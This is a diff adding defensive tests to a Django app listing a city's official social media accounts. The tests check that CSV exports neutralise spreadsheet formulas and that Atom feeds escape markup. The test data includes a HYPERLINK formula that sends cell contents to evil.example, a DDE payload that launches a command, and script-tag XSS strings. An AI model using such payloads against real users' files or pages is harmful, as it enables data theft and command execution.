@@ -75,7 +75,7 @@ def test_csv_line_breaks_inside_values_are_quoted(client, demo, tourism_account)
 
     cache.clear()
     rows = csv_rows(client)
-    row = next(r for r in rows if r[2] == "@sample_city_kanko" and r[0] == "Instagram")
+    row = next(r for r in rows if r[2] == "'@sample_city_kanko" and r[0] == "Instagram")
     assert row[5] == "四季の観光スポット、\n旬の食を紹介します。"
     assert len(rows) == 13
 
@@ -91,7 +91,8 @@ def test_csv_decodes_and_parses_into_a_japanese_header_and_one_row_per_account(c
     kanko = by_url["https://www.instagram.com/sample_city_kanko/"]
     assert kanko["サービス"] == "Instagram"
     assert kanko["アカウント名"] == "サンプル市観光"
-    assert kanko["アカウントID"] == "@sample_city_kanko"
+    # Neutralised for spreadsheets (see the CSV-injection tests below).
+    assert kanko["アカウントID"] == "'@sample_city_kanko"
     assert kanko["運用部署"] == "経済観光局 観光部 観光プロモーション課"
     assert kanko["状態"] == "公開中"
     assert kanko["認証バッジ"]
@@ -168,6 +169,70 @@ def test_csv_is_public(client, demo):
     assert response.status_code == 200  # no redirect to the staff login
 
 
+# --- CSV injection (OWASP): nothing in the file is a formula to a spreadsheet ------------------
+
+FORMULA_CHARS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?"&A1,"詳しくはこちら")',
+    "+81-3-1234-5678",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "＝1+1",
+    'サンプル市,"観光"',
+]
+
+
+def refresh_public_cache():
+    from django.core.cache import cache
+
+    cache.clear()
+
+
+def test_every_handle_is_neutralised_yet_still_readable(client, demo):
+    """Every handle starts with "@", which Excel reads as a formula: each gets the single
+    quote OWASP recommends, and what follows it is the handle exactly."""
+    rows = csv_rows(client)
+    cells = {r[3]: r[2] for r in rows[1:]}
+    listed = OfficialAccount.objects.filter(status=AccountStatus.LISTED)
+    at_handles = 0
+    for account in listed:
+        handle = account.key.display_handle
+        if handle.startswith("@"):
+            at_handles += 1
+            assert cells[account.url] == "'" + handle
+        else:  # e.g. "facebook.com/…": nothing to neutralise
+            assert cells[account.url] == handle
+    assert at_handles >= 5  # X, Instagram, TikTok … in the demo data
+
+
+@pytest.mark.parametrize("name", HOSTILE_NAMES)
+def test_csv_never_writes_a_formula_and_keeps_the_text(client, demo, tourism_account, name):
+    OfficialAccount.objects.filter(pk=tourism_account.pk).update(display_name=name, purpose=name)
+    refresh_public_cache()
+    body = csv_body(client)
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
+    # Still one record per account with every column: a comma or quote in a value never
+    # shifts the cells.
+    assert len(rows) == 1 + 12
+    assert all(len(r) == len(HEADER) for r in rows)
+    for row in rows:
+        for cell in row:
+            assert not cell.lstrip(" ").startswith(FORMULA_CHARS), cell
+    row = next(r for r in rows if r[3] == "https://www.instagram.com/sample_city_kanko/")
+    cells = dict(zip(HEADER, row, strict=True))
+    for column in ("アカウント名", "発信の目的"):
+        # The text is all there, behind the quote when it needed one.
+        assert cells[column] in (name, "'" + name)
+        assert cells[column].endswith(name)
+    if "," in name:
+        # Quoted in the file itself (quotes doubled), so no spreadsheet splits it on the comma.
+        quoted = '"' + cells["アカウント名"].replace('"', '""') + '"'
+        assert quoted.encode() in body
+
+
 # --- Atom feed ----------------------------------------------------------------------------
 
 
@@ -238,6 +303,48 @@ def test_feed_announces_a_real_policy_revision(client, demo, tourism_account, ch
     assert items[0] == revision
     # The original listing is still there.
     assert "【掲載】サンプル市観光（Instagram）" in {e["title"] for e in items}
+
+
+@pytest.mark.parametrize(
+    "name", ["<script>alert(1)</script>サンプル市", "<b>太字</b>市", "A &amp; B &lt;i&gt;"]
+)
+def test_feed_summary_shows_a_name_as_text_never_as_markup(client, demo, tourism_account, name):
+    """A feed reader decodes the XML, then renders <summary type="html"> as HTML: the name
+    must come out of that as the same characters, with no element in it."""
+    from html.parser import HTMLParser
+
+    OfficialAccount.objects.filter(pk=tourism_account.pk).update(display_name=name)
+    refresh_public_cache()
+    root = feed(client)
+    for entry in root.findall(f"{ATOM}entry"):
+        summary = entry.find(f"{ATOM}summary")
+        if name not in html_text(summary.text):
+            continue
+        assert summary.get("type") == "html"
+
+        class Elements(HTMLParser):
+            found: list[str] = []
+
+            def handle_starttag(self, tag, attrs):
+                self.found.append(tag)
+
+        parser = Elements()
+        parser.found = []
+        parser.feed(summary.text)
+        assert parser.found == [], summary.text
+        title = entry.find(f"{ATOM}title")
+        assert title.get("type", "text") == "text"
+        assert name in title.text
+        break
+    else:
+        pytest.fail(f"no entry shows {name!r} as text")
+
+
+def html_text(fragment: str) -> str:
+    """What a reader shows for an HTML fragment that has no elements: the unescaped text."""
+    import html
+
+    return html.unescape(fragment or "")
 
 
 def test_feed_is_public_and_xml_even_from_the_cache(client, demo):
